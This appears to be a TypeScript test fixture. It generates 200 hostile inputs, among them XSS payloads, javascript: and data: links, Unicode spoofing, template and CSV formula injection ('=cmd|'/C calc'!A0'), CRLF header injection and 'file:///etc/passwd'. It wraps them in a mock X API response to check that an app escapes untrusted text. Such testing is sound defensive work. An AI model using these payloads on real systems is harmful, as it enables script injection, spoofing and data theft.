/** Something that tries to be more than text. Each that ran would say so: see PROOF. */
export interface Payload {
  readonly number: number;
  readonly kind: string;
  readonly text: string;
}

/** What a payload does if anything lets it: a test looks for it. */
const PROOF = "window.ran=(window.ran||[]).concat(N);alert(N)";
const ELSEWHERE = "https://hostile.example/N";

const HTML = [
  "<script>PROOF</script>",
  "<ScRiPt >PROOF</ScRiPt>",
  "<script src=ELSEWHERE></script>",
  '"><script>PROOF</script>',
  "'><script>PROOF</script>",
  "</title><script>PROOF</script>",
  "</textarea><script>PROOF</script>",
  "</style><script>PROOF</script>",
  "--><script>PROOF</script>",
  "]]><script>PROOF</script>",
  "<img src=x onerror=PROOF>",
  "<img src=ELSEWHERE>",
  '<img src="x` `<script>PROOF</script>"` `>',
  "<img/src/onerror=PROOF>",
  "<image href=ELSEWHERE>",
  "<body onload=PROOF>",
  "<iframe src=javascript:PROOF></iframe>",
  '<iframe srcdoc="<script>parent.PROOF</script>"></iframe>',
  "<object data=ELSEWHERE></object>",
  "<embed src=ELSEWHERE>",
  "<input autofocus onfocus=PROOF>",
  "<select autofocus onfocus=PROOF>",
  "<textarea autofocus onfocus=PROOF>",
  "<details open ontoggle=PROOF>",
  "<video><source onerror=PROOF>",
  "<audio src=x onerror=PROOF>",
  "<marquee onstart=PROOF>",
  "<form action=ELSEWHERE><button autofocus>go</button></form>",
  "<base href=ELSEWHERE>",
  "<meta http-equiv=refresh content='0;url=ELSEWHERE'>",
  "<link rel=stylesheet href=ELSEWHERE>",
  "<link rel=prefetch href=ELSEWHERE>",
  "<style>@import 'ELSEWHERE';</style>",
  "<div style=background:url(ELSEWHERE)>",
  "<a href=ELSEWHERE ping=ELSEWHERE>click</a>",
  "<template shadowrootmode=open><script>PROOF</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=PROOF>'>",
  "&lt;script&gt;PROOF&lt;/script&gt;",
  "&#60;img src=x onerror=PROOF&#62;",
  "\\u003cscript\\u003ePROOF\\u003c/script\\u003e",
];
const SVG = [
  "<svg onload=PROOF>",
  "<svg/onload=PROOF//",
  "<svg><script>PROOF</script></svg>",
  "<svg><script href=ELSEWHERE /></svg>",
  "<svg><animate onbegin=PROOF attributeName=x dur=1s>",
  "<svg><set onbegin=PROOF attributeName=x>",
  "<svg><a href=javascript:PROOF><text y=20>click</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=PROOF>#x'/></svg>",
  "<svg><image href=ELSEWHERE /></svg>",
  "<svg><foreignObject><iframe src=javascript:PROOF></iframe></foreignObject></svg>",
  "<svg><style>@import 'ELSEWHERE';</style></svg>",
  "<svg><desc><![CDATA[</desc><script>PROOF</script>]]></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=PROOF>",
  "<math href=javascript:PROOF>click</math>",
  "<svg><title><style><img src=x onerror=PROOF></style></title></svg>",
];
const LINKS = [
  "javascript:PROOF",
  "JaVaScRiPt:PROOF",
  " javascript:PROOF",
  "\u0001javascript:PROOF",
  "java\tscript:PROOF",
  "java\nscript:PROOF",
  "javascript://hostile.example/%0aPROOF",
  "javascript&colon;PROOF",
  "javascript:%50ROOF",
  "vbscript:PROOF",
  "data:text/html,<script>PROOF</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=PROOF>",
  "blob:ELSEWHERE",
  "filesystem:ELSEWHERE",
  "file:///etc/passwd",
  "view-source:javascript:PROOF",
  "//hostile.example/N",
  "/\\hostile.example/N",
  "\\\\hostile.example\\N",
  "https:/hostile.example/N",
  "https://bank.example@hostile.example/N",
  "https://hostile.example/\u202Etxt.exe",
  'https://hostile.example/?q="><script>PROOF</script>',
  "https://hostile.example/#<img src=x onerror=PROOF>",
  "https://hostile.example/'onmouseover='PROOF",
  "https://\u0430pple.example/N",
  "https://xn--pple-43d.example/N",
  "https://hostile.example/\r\nSet-Cookie: a=N",
  "https://hostile.example/%00%0d%0a",
];
const UNSEEN = [
  ..."\u202A\u202B\u202D\u202E\u2066\u2067\u2068\u200E\u200F\u061C\u200B\u2060\uFEFF\u00AD\u180E\u2028\u2029\u0085\u0007\u001B",
].map((character) => `ad${character}a gnp.${character}exe N`);
const TRICKS = [
  "{{constructor.constructor('PROOF')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody would write
  "${PROOF}",
  "#{PROOF}",
  "<%= PROOF %>",
  "$t(PROOF)",
  "{{- PROOF, html -}}",
  "__proto__",
  "constructor",
  "[object Object]",
  "undefined",
  "null",
  "NaN",
  "');PROOF;//",
  '";PROOF;//',
  "`;PROOF;//",
  "\\';PROOF;//",
  "\u0000<script>PROOF</script>",
  "@import url(ELSEWHERE)",
  "url(ELSEWHERE)",
  "expression(PROOF)",
  "x:y|z|INTERACTED|a|b",
  "~0",
  "=cmd|'/C calc'!A0",
  "[click](javascript:PROOF)",
  "![x](ELSEWHERE)",
  "%3Cscript%3EPROOF%3C/script%3E",
  "+ADw-script+AD4-PROOF+ADw-/script+AD4-",
  "\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67 PROOF",
  "\uFF1Cscript\uFF1EPROOF\uFF1C/script\uFF1E",
  "\u2028PROOF\u2029",
];
const LONG = [
  "W".repeat(5_000),
  "i".repeat(5_000),
  "a ".repeat(2_500),
  "漢".repeat(3_000),
  "\u0E49".repeat(3_000),
  `a${"\u0301".repeat(4_000)}`,
  "👩‍👩‍👧‍👦".repeat(500),
  "\u202E".repeat(500),
  "<b>".repeat(1_500),
  "&amp;".repeat(1_000),
  "\n".repeat(2_000),
  "\t".repeat(2_000),
  `https://hostile.example/${"a".repeat(4_000)}`,
  "-".repeat(4_000),
  "שלום ".repeat(800),
];

const KINDS: Readonly<Record<string, readonly string[]>> = { HTML, SVG, LINKS, UNSEEN, TRICKS, LONG };
const WANTED = 200;

/** Two hundred: each of the above, and again with other surroundings until it is so many. */
export const PAYLOADS: readonly Payload[] = Array.from({ length: WANTED }, (_, index) => {
  const all = Object.entries(KINDS).flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })));
  const { kind, text } = all[index % all.length] ?? { kind: "", text: "" };
  const round = Math.floor(index / all.length);
  const number = index + 1;
  const shown = round === 0 ? text : `\u2067"'><!--${text}`;
  return { number, kind, text: filled(shown, number) };
});

function filled(text: string, number: number): string {
  return text
    .replaceAll("PROOF", PROOF)
    .replaceAll("ELSEWHERE", ELSEWHERE)
    .replaceAll(/\bN\b/g, String(number));
}

/** So that every one of them is found by one word. */
export const WORD = "zanzibar";

/** An answer of X's API, with each payload as handle, name, bio, place, post, hashtag, link and app. */
export function hostileFile(payloads: readonly Payload[]): string {
  const users = payloads.map(({ number, text }) => ({
    id: String(number),
    username: text,
    name: text,
    description: `${WORD} ${text}`,
    location: text,
    url: text,
  }));
  const data = payloads.map(({ number, text }) => ({
    id: String(1_000 + number),
    author_id: String(number),
    created_at: new Date(Date.UTC(2026, 0, 5, 12, 0, number)).toISOString(),
    text: `${WORD} ${text}`,
    source: text,
    entities: {
      urls: [{ url: text, expanded_url: text, title: text }],
      hashtags: [{ tag: text }],
      mentions: [{ id: String((number % payloads.length) + 1), username: text }],
    },
  }));
  return JSON.stringify({ data, includes: { users } });
}
